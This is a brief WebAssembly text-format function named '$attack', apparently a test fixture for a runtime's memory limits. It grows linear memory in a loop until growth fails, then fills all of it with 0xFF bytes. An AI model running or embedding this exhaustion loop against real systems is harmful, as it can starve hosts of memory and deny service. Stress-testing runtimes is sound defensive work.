(func $attack (result i32)
  (block $full
    (loop $more
      (br_if $full (i32.eq (i32.const -1) (memory.grow (i32.const 1))))
      (br $more)))
  (memory.fill (i32.const 65536) (i32.const 255) (i32.sub (i32.shl (memory.size) (i32.const 16)) (i32.const 65536)))
  (call $one (memory.size))
)
